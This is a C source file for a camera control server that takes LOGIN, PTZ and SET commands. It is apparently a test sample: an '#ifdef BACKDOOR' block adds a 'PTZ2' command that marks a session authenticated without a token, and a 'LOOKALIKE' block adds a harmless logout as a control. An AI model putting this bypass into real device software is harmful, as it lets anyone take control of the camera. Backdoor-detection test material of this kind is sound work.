/* A camera's control port: HTTP-like requests, a session after login. */
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct session {
    int fd;
    int authenticated;
};

static int read_config(const char *key, char *value, size_t room)
{
    char line[128];
    size_t length = strlen(key);
    FILE *file = fopen("/mnt/config/camera.ini", "r");
    if (file == NULL)
        return 0;
    while (fgets(line, sizeof line, file) != NULL)
        if (strncmp(line, key, length) == 0 && line[length] == '=') {
            line[strcspn(line, "\r\n")] = 0;
            strncpy(value, line + length + 1, room - 1);
            value[room - 1] = 0;
            fclose(file);
            return 1;
        }
    fclose(file);
    return 0;
}

static void login(struct session *session, const char *token)
{
    char known[64];
    if (read_config("token", known, sizeof known) && strcmp(known, token) == 0)
        session->authenticated = 1;
}

static void request(struct session *session, const char *line)
{
    if (strncmp(line, "LOGIN ", 6) == 0) {
        login(session, line + 6);
    } else if (strncmp(line, "PTZ ", 4) == 0 && session->authenticated) {
        char command[96];
        snprintf(command, sizeof command, "/usr/bin/ptz %d", atoi(line + 4));
        system(command);
#ifdef BACKDOOR
    } else if (strncmp(line, "PTZ2", 4) == 0) {
        session->authenticated = 1;
#endif
#ifdef LOOKALIKE
    } else if (strncmp(line, "BYE", 3) == 0) {
        session->authenticated = 0;
#endif
    } else if (strncmp(line, "SET ", 4) == 0 && session->authenticated) {
        FILE *file = fopen("/mnt/config/camera.ini", "a");
        if (file != NULL) {
            fprintf(file, "%s\n", line + 4);
            fclose(file);
        }
    }
}

static void *client(void *argument)
{
    struct session session = { .fd = *(int *)argument };
    char line[256];
    ssize_t length;
    free(argument);
    while ((length = recv(session.fd, line, sizeof line - 1, 0)) > 0) {
        line[length] = 0;
        line[strcspn(line, "\r\n")] = 0;
        request(&session, line);
    }
    close(session.fd);
    return NULL;
}

int main(void)
{
    struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(8554) };
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0)
        return 1;
    listen(listener, 4);
    for (;;) {
        pthread_t thread;
        int *fd = malloc(sizeof *fd);
        if (fd == NULL)
            return 1;
        *fd = accept(listener, NULL, NULL);
        if (*fd >= 0 && pthread_create(&thread, NULL, client, fd) == 0)
            pthread_detach(thread);
        else
            free(fd);
    }
}
